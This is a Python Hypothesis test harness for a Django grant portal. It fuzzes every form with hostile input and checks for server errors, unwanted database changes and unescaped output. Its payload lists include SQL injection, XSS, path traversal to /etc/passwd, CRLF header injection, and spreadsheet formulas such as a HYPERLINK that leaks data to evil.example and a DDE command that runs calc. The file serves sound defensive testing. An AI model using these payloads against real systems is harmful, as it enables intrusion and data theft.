"""Hostile input to every form (issue 7): hypothesis posts random and hostile values to each form
the portal's users post, as the role that may post it.

This module is the harness: the hypothesis settings, the strategies that fill the fields, and
`post`, which checks the properties below on every example. The tests are in
`tests/<app>/test_hostile_input.py`, one module per app; `tests/test_every_form_is_tested.py`
fails when a form has none. Fixtures that tests of several apps use (the clients `als_regisseur`,
`als_beoordelaar`, `als_beheerder`, and `vreemd_bestuur`) are in `tests/conftest.py`: pytest finds
a fixture only there or in the test's own module.

Every example runs in a savepoint that is rolled back, so each starts from the same fixtures. The
properties, per example:

- the answer is never a server error (the test client raises the view's exception, shown with
  the example that caused it);
- a refusal (no redirect) leaves the database as it was: every table's row count and a hash of
  its rows are compared, apart from sessions, the login-lockout log and (for the two-step login)
  the counters of wrong codes;
- a save stores exactly what the form cleaned (no truncation, nothing added or dropped);
- hostile text comes back escaped on the page that answers, and on the page after a redirect.

Values are drawn per field from a valid strategy (which includes injections, control characters,
right-to-left marks and emoji that a text field must accept) and, for up to three fields per
example, from a hostile one: malformed or out-of-range values, NUL characters, texts beyond the
field's length, the field left out or sent twice, and ids of other verbanden' objects. Ids of
objects made by the fixtures are written as placeholders (`§name`) and filled in per test, so an
example found once can be kept as an explicit `@example`.

The test's transaction never commits: what runs after a commit (e-mails) is not exercised here.
"""

from __future__ import annotations

import datetime
import operator
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from decimal import Decimal
from functools import cache
from typing import TYPE_CHECKING, Any
from urllib.parse import urlencode, urlsplit

from django.core import mail
from django.db import connection, transaction
from django.http import QueryDict
from django.test import Client
from hypothesis import HealthCheck
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

if TYPE_CHECKING:
    from django.test.client import _MonkeyPatchedWSGIResponse as Antwoord


def _hypothesis(max_examples: int) -> Any:
    """Settings for one property: a fixed sequence of examples (the same in every run and on
    CI), no example database in the repository, and the fixtures shared by the examples (each
    runs in its own rolled-back savepoint)."""
    return hypothesis_settings(
        max_examples=max_examples,
        deadline=None,
        derandomize=True,
        database=None,
        print_blob=False,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.large_base_example,
            HealthCheck.filter_too_much,
        ],
    )


# Sized so that the hostile-input tests run in about a minute on two cores.
VEEL = _hypothesis(20)
WEINIG = _hypothesis(10)  # a decision renders its letter (WeasyPrint)
PDF_WEINIG = _hypothesis(5)  # submitting renders and seals the whole aanvraag


# --- Strategies ---------------------------------------------------------------------------------

INJECTIES = (
    "'; DROP TABLE aanvragen_aanvraag; --",
    '" OR "1"="1',
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    "</textarea><script>alert(2)</script>",
    '"><svg onload=alert(3)>',
    '=HYPERLINK("http://evil.example/?d="&A1;"klik")',
    "=cmd|' /C calc'!A0",
    "+SUM(1;1)",
    "@SUM(1)",
    "-2+3",
    "{{ request }}{% debug %}",
    "%(naam)s %s {0} %n",
    "../../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "\u202egnp.exe",
    "\u200f\u200e\u061c\u2066",
    "\U0001f4b6\U0001f1e7\U0001f1ea\U0001f469\U0001f3fd\u200d\U0001f4bb",
    "Z\u0337a\u0334l\u0336g\u0335o\u0338",
    "\ufeff\u2028\u2029\u0085",
    "\x1b[31m\x07\x08\x7f",
    "\r\n\r\nSet-Cookie: x=1",
    "\u00dcn\u00efc\u00f6d\u00e9 caf\u00e9 \u2013 \u201cquotes\u201d \u20ac",
)
# What an unescaped injection leaves in the HTML; the page itself never contains these.
RAUW = ("<script>alert(", "<img src=x onerror", "<svg onload=")
SPECIAAL = (
    "\x01\x07\x08\t\n\x0b\x0c\r\x1b\x1f\x7f\x85\xa0\xad\u200b\u200d\u200e\u200f\u202a\u202e"
    "\u2028\u2029\u2066\u3000\ufeff\ufffd\U0001f4b6"
)
# Everything HTTP can carry (UTF-8: no lone surrogates).
KARAKTER = st.one_of(
    st.characters(codec="utf-8", exclude_characters="\x00"),
    st.sampled_from(SPECIAAL),
)


def _tekst(max_len: int | None = None) -> st.SearchStrategy[str]:
    """Text a field must accept (no NUL): random, injections, mixes, and long repetitions."""
    kort = st.text(KARAKTER, max_size=30)
    gemengd = st.lists(st.one_of(kort, st.sampled_from(INJECTIES)), min_size=1, max_size=4).map(
        "".join
    )
    lang = st.builds(
        operator.mul, st.sampled_from((*INJECTIES[:6], "a", "é ", "\u202e")), st.integers(1, 2000)
    )
    tekst = st.one_of(gemengd, lang)
    return tekst if max_len is None else tekst.map(lambda t: t[:max_len])


def _foute_tekst(max_len: int | None = None) -> st.SearchStrategy[str]:
    """Text a field must refuse, or leave empty: with NUL, blank, or longer than allowed."""
    met_nul = st.builds(lambda a, b: a + "\x00" + b, _tekst(50), _tekst(50))
    leeg = st.sampled_from(("", " ", "\t\r\n ", "\u3000", "\x00"))
    if max_len is None:
        return st.one_of(met_nul, leeg)
    te_lang = st.builds(lambda t, n: (t or "x") * (max_len + n), _tekst(20), st.integers(1, 300))
    return st.one_of(met_nul, leeg, te_lang.map(lambda t: t[: max_len * 4 + 400]))


RARE_GETALLEN = (
    "",
    " ",
    "0",
    "-0",
    "-1",
    "+1",
    "1.5",
    "1,5",
    "1e3",
    "1E-2",
    "0x1F",
    "1_000",
    "\u0661\u0662\u0663",
    "\uff11\uff12",
    "NaN",
    "Infinity",
    "-inf",
    "9" * 30,
    "2147483648",
    "-2147483649",
    "9223372036854775808",
    "99999999999999999999",
    "3.0",
    "--1",
    "1 000",
    "€ 12,50",
    "12.500,50",
    "12.50.50",
    ",5",
    "5,",
    "0,001",
    "-12.500,00",
    "1.234.567,891",
    "10000000000",
    "9999999999,99",
    "1e309",
    "1" + "0" * 400,
    "\u0661\u0662.\u0665\u0660\u0660,\u0665",
)
GETAL = st.one_of(
    st.sampled_from(RARE_GETALLEN),
    st.integers(-(10**24), 10**24).map(str),
    st.decimals(allow_nan=True, allow_infinity=True).map(str),
    _tekst(20),
)


def _euro(bedrag: Decimal, stijl: str) -> str:
    plain = f"{bedrag:.2f}"
    if stijl == "komma":
        return plain.replace(".", ",")
    if stijl == "nl":
        return f"{bedrag:,.2f}".replace(",", " ").replace(".", ",").replace(" ", ".")
    if stijl == "euro":
        return f"€ {plain.replace('.', ',')}"
    return plain


def _bedrag(max_value: str) -> st.SearchStrategy[str]:
    return st.builds(
        _euro,
        st.decimals(min_value=0, max_value=Decimal(max_value), places=2),
        st.sampled_from(("plain", "komma", "nl", "euro")),
    )


BEDRAG = st.one_of(_bedrag("100000"), _bedrag("9999999999.99"))

RARE_DATUMS = (
    "0001-01-01",
    "9999-12-31",
    "31/12/9999",
    "01/01/0001",
    "2030-02-29",
    "2028-02-29",
    "2030-02-30",
    "2030-13-01",
    "2030-00-10",
    "00/00/0000",
    "31/04/2030",
    "2030-1-1",
    "1/1/30",
    "2030-01-01T10:00",
    "2030/01/01",
    "+2030-01-01",
    "\uff12\uff10\uff13\uff10-\uff10\uff11-\uff10\uff11",
    "\u0662\u0660\u0663\u0660-\u0660\u0661-\u0660\u0661",
    "10000-01-01",
    "-2030-01-01",
    "tomorrow",
    "",
)
RARE_MOMENTEN = (
    "9999-12-31T23:59",
    "9999-12-31T23:59:59",
    "9999-12-31T23:59:59-14:00",
    "9999-12-31T23:00+14:00",
    "0001-01-01T00:00",
    "0001-01-01T00:00:00+14:00",
    "31/12/9999 23:59",
    "2031-03-30T02:30",  # does not exist in Brussels (summer time starts)
    "2031-10-26T02:30",  # exists twice in Brussels (summer time ends)
    "2030-02-30T10:00",
    "2030-01-01T24:00",
    "2030-01-01T23:60",
    "2030-01-01T23:59:60",
    "2030-01-01",
    "2035-01-01T10:00Z",
    "2035-01-01T10:00:00.999999+01:00",
    "2035-01-01 10:00",
    "10/10/2035",
    "",
)


def _datum(min_jaar: int, max_jaar: int) -> st.SearchStrategy[str]:
    return st.dates(datetime.date(min_jaar, 1, 1), datetime.date(max_jaar, 12, 31)).flatmap(
        lambda d: st.sampled_from((d.isoformat(), d.strftime("%d/%m/%Y"), d.strftime("%d-%m-%Y")))
    )


def _moment(min_jaar: int, max_jaar: int) -> st.SearchStrategy[str]:
    return st.datetimes(
        datetime.datetime(min_jaar, 1, 1), datetime.datetime(max_jaar, 12, 31, 23, 59)
    ).flatmap(
        lambda d: st.sampled_from(
            (
                d.strftime("%Y-%m-%dT%H:%M"),
                d.strftime("%Y-%m-%dT%H:%M:%S"),
                d.strftime("%d/%m/%Y %H:%M"),
            )
        )
    )


FOUTE_DATUM = st.one_of(st.sampled_from(RARE_DATUMS), _tekst(20))
FOUT_MOMENT = st.one_of(st.sampled_from(RARE_MOMENTEN + RARE_DATUMS), _tekst(20))
RARE_EMAILS = (
    "a@b",
    "@gemeente.be",
    "naam@",
    "naam@@gemeente.be",
    "naam@gemeente..be",
    "naam@-gemeente.be",
    "naam @gemeente.be",
    "naam@gemeente.be\nBcc: x@evil.example",
    "'; DROP TABLE accounts_user; --@x.be",
    "<script>alert('xss')</script>@x.be",
    '"quoted"@gemeente.be',
    "naam@xn--bcher-kva.example",
    "naam@bücher.example",
    "ALICE@EXAMPLE.ORG",
    " alice@example.org ",
    "a" * 65 + "@gemeente.be",
    "naam@" + "a" * 64 + ".be",
    "naam@" + ".".join(["a" * 63] * 5) + ".be",
)
EMAIL = st.one_of(
    st.emails().map(lambda e: e[:300]),
    st.sampled_from(("naam@gemeente.be", "x.y+z@ocmw.example.be", "Naam@Gemeente.BE")),
)
FOUT_EMAIL = st.one_of(st.sampled_from(RARE_EMAILS), _foute_tekst(254), _tekst(40))
WACHTWOORD = st.one_of(
    st.sampled_from(("Zonnige-Kade-4821", "Lange zin met spaties en één ü", "pA55w0rd!" * 3)),
    _tekst(200).map(lambda t: "Zk9!" + t),
)
FOUT_WACHTWOORD = st.one_of(
    st.sampled_from(("", "12345678", "password", "kort", "alice@example.org", "Alice")),
    _foute_tekst(),
    st.builds(operator.mul, st.sampled_from(("ab", "\U0001f4b6")), st.integers(1000, 3000)),
)


@dataclass(frozen=True)
class Veld:
    """How one field is filled: `geldig` mostly, `fout` when the example breaks the field."""

    geldig: st.SearchStrategy[Any]
    fout: st.SearchStrategy[Any]


def tekstveld(max_len: int | None = None) -> Veld:
    return Veld(_tekst(max_len), _foute_tekst(max_len))


def keuze(geldig: tuple[str, ...], fout: tuple[str, ...] = ()) -> Veld:
    """A choice: valid values (or placeholders `§name`), and the wrong ones besides any text."""
    return Veld(st.sampled_from(geldig), st.one_of(st.sampled_from((*fout, "0", "-1")), GETAL))


# An amount of a review or decision: within the call's yearly budget, or not.
BEDRAG_VAN_OPROEP = Veld(_bedrag("1000000"), st.one_of(GETAL, _bedrag("9999999999.99")))

EXTRA_NAAM = st.from_regex(r"[a-z][a-z0-9_\-]{0,11}", fullmatch=True)


@st.composite
def formulier(
    draw: st.DrawFn, velden: Mapping[str, Veld], prefix: str = "", extra: bool = True
) -> dict[str, Any]:
    """A POST: every field valid, or up to three broken ones (wrong, left out or sent two or
    three times), and sometimes unknown fields besides."""
    namen = sorted(velden)
    # About half the examples break no field: they reach the save with hostile valid text.
    kapot = draw(
        st.one_of(st.just(set()), st.sets(st.sampled_from(namen), max_size=min(3, len(namen))))
    )
    data: dict[str, Any] = {}
    for naam in namen:
        veld = velden[naam]
        if naam not in kapot:
            data[prefix + naam] = draw(veld.geldig)
            continue
        hoe = draw(st.sampled_from(("fout", "weg", "dubbel")))
        if hoe == "fout":
            data[prefix + naam] = draw(veld.fout)
        elif hoe == "dubbel":
            waarden = draw(st.lists(st.one_of(veld.geldig, veld.fout), min_size=2, max_size=3))
            data[prefix + naam] = [
                w for waarde in waarden for w in (waarde if isinstance(waarde, list) else [waarde])
            ]
    if extra:
        extra_waarde = st.one_of(_tekst(40), _foute_tekst())
        for naam, waarde in draw(st.dictionaries(EXTRA_NAAM, extra_waarde, max_size=2)).items():
            data.setdefault(naam, waarde)
    return data


ENCODING = st.sampled_from(("multipart", "urlencoded"))


@st.composite
def wachtwoorden(draw: st.DrawFn, prefix: str = "new_") -> dict[str, Any]:
    """A new password and its confirmation: mostly the same, sometimes not, sometimes broken."""
    invoer = draw(
        formulier(
            {
                "password1": Veld(WACHTWOORD, FOUT_WACHTWOORD),
                "password2": Veld(st.just(""), st.just("")),
            },
            prefix=prefix,
        )
    )
    if draw(st.integers(0, 3)) and f"{prefix}password1" in invoer:
        invoer[f"{prefix}password2"] = invoer[f"{prefix}password1"]
    return invoer


# --- Posting, comparing the database, reading the answer ----------------------------------------

# Changed by any request (the session) or by a failed login (the lockout log), never compared.
NOOIT_VERGELEKEN = frozenset(
    {
        "django_session",
        "django_migrations",
        "axes_accessattempt",
        "axes_accessattemptexpiration",
        "axes_accessfailurelog",
        "axes_accesslog",
        # A counter the database raises with the tables it follows (aanvragen.versietellers);
        # those tables are compared themselves.
        "aanvragen_referentieversie",
    }
)


# Columns the database raises itself when other tables change (aanvragen.versietellers): a
# question asked changes the question, and the aanvraag only in this counter.
TELLERS = {"aanvragen_aanvraag": "inhoudsversie"}


@cache
def _tabellen() -> tuple[str, ...]:
    with connection.cursor() as cursor:
        return tuple(sorted(connection.introspection.table_names(cursor)))


def momentopname(negeer: frozenset[str] = frozenset()) -> dict[str, str]:
    """Per table: its row count and an MD5 of all its rows, in one query."""
    tabellen = [t for t in _tabellen() if t not in NOOIT_VERGELEKEN | negeer]
    qn = connection.ops.quote_name

    def rij(t: str) -> str:
        return f"(to_jsonb(r) - '{TELLERS[t]}')::text" if t in TELLERS else "r::text"

    sql = " UNION ALL ".join(
        f"SELECT %s::text, count(*) || ':' || "
        f"coalesce(md5(string_agg({rij(t)}, '|' ORDER BY {rij(t)})), '') FROM {qn(t)} r"
        for t in tabellen
    )
    with connection.cursor() as cursor:
        cursor.execute(sql, tabellen)
        return dict(cursor.fetchall())


@contextmanager
def voorbeeld() -> Iterator[None]:
    """One example in a savepoint that is rolled back afterwards."""
    if hasattr(mail, "outbox"):
        mail.outbox.clear()
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def invullen(waarde: Any, ids: Mapping[str, str]) -> Any:
    """Placeholders `§name` replaced by the fixture's value (an id, a code)."""
    if isinstance(waarde, list):
        return [invullen(w, ids) for w in waarde]
    if isinstance(waarde, dict):
        return {k: invullen(v, ids) for k, v in waarde.items()}
    if isinstance(waarde, str):
        return ids.get(waarde, waarde)
    return waarde


def als_querydict(data: Mapping[str, Any]) -> QueryDict:
    """The POST as the view reads it."""
    result = QueryDict(mutable=True)
    for naam, waarde in data.items():
        if isinstance(waarde, list):
            result.setlist(naam, waarde)
        else:
            result[naam] = waarde
    return result


def laatste(data: Mapping[str, Any], naam: str) -> str:
    """A field as the view reads it: the last value when it was sent several times."""
    return str(als_querydict(data).get(naam, ""))


def _teksten(data: Mapping[str, Any]) -> list[str]:
    teksten: list[str] = []
    for naam, waarde in data.items():
        teksten.append(naam)
        teksten.extend(w for w in (waarde if isinstance(waarde, list) else [waarde]))
    return [t for t in teksten if isinstance(t, str)]


def ontsnapt(response: Antwoord, data: Mapping[str, Any]) -> None:
    """No injection from the POST appears unescaped in an HTML answer."""
    if not response.get("Content-Type", "").startswith("text/html"):
        return
    html = response.content.decode("utf-8", errors="replace")
    for marker in RAUW:
        if any(marker in tekst for tekst in _teksten(data)):
            assert marker not in html, f"unescaped {marker!r} in the page"


@dataclass
class Uitkomst:
    response: Antwoord
    veranderd: set[str]
    gelukt: bool


def is_redirect(response: Antwoord, veranderd: set[str]) -> bool:
    """A save: a redirect, but not to the login page (a lost session)."""
    return response.status_code in (301, 302, 303) and not response["Location"].startswith(
        "/accounts/login/"
    )


GRENS = "hostile-input-grens-7f3a"


def multipart(data: Mapping[str, Any], bestanden: Mapping[str, tuple[str, bytes]]) -> bytes:
    """A multipart body written by hand: the file name goes as is (the test client would
    keep only its base name, and refuses an empty one)."""
    delen = []
    for naam, waarde in data.items():
        for tekst in waarde if isinstance(waarde, list) else [waarde]:
            kop = f'--{GRENS}\r\nContent-Disposition: form-data; name="{naam}"\r\n\r\n'
            delen.append(kop.encode() + tekst.encode() + b"\r\n")
    for naam, (bestandsnaam, inhoud) in bestanden.items():
        kop = (
            f'--{GRENS}\r\nContent-Disposition: form-data; name="{naam}"; '
            f'filename="{bestandsnaam}"\r\nContent-Type: application/pdf\r\n\r\n'
        )
        delen.append(kop.encode() + inhoud + b"\r\n")
    delen.append(f"--{GRENS}--\r\n".encode())
    return b"".join(delen)


def post(
    client: Client,
    pad: str,
    data: Mapping[str, Any],
    encoding: str = "multipart",
    *,
    bestanden: Mapping[str, tuple[str, bytes]] | None = None,
    negeer: frozenset[str] = frozenset(),
    gelukt: Callable[[Antwoord, set[str]], bool] = is_redirect,
) -> Uitkomst:
    """POST, and check the common properties: no server error; a refusal changes nothing in the
    database; the answer, and after a redirect the next page, show injections escaped."""
    voor = momentopname(negeer)
    if bestanden is not None:
        response = client.post(
            pad,
            multipart(data, bestanden),
            content_type=f"multipart/form-data; boundary={GRENS}",
        )
    elif encoding == "urlencoded":
        response = client.post(
            pad, urlencode(data, doseq=True), content_type="application/x-www-form-urlencoded"
        )
    else:
        response = client.post(pad, data)
    assert response.status_code < 500, response.status_code
    na = momentopname(negeer)
    veranderd = {tabel for tabel, rij in voor.items() if na.get(tabel) != rij}
    ok = gelukt(response, veranderd)
    if not ok:
        assert not veranderd, f"refused ({response.status_code}) yet changed {sorted(veranderd)}"
    ontsnapt(response, data)
    if response.status_code in (301, 302, 303):
        adres = urlsplit(response["Location"])
        volgende = client.get(adres.path + (f"?{adres.query}" if adres.query else ""))
        assert volgende.status_code < 500, volgende.status_code
        ontsnapt(volgende, data)
    return Uitkomst(response, veranderd, ok)


def alleen(veranderd: set[str], *tabellen: str) -> None:
    """A save changed only these tables."""
    assert veranderd <= set(tabellen), sorted(veranderd - set(tabellen))


def _ids(**objecten: Any) -> dict[str, str]:
    return {f"§{naam}": str(getattr(obj, "pk", obj)) for naam, obj in objecten.items()}
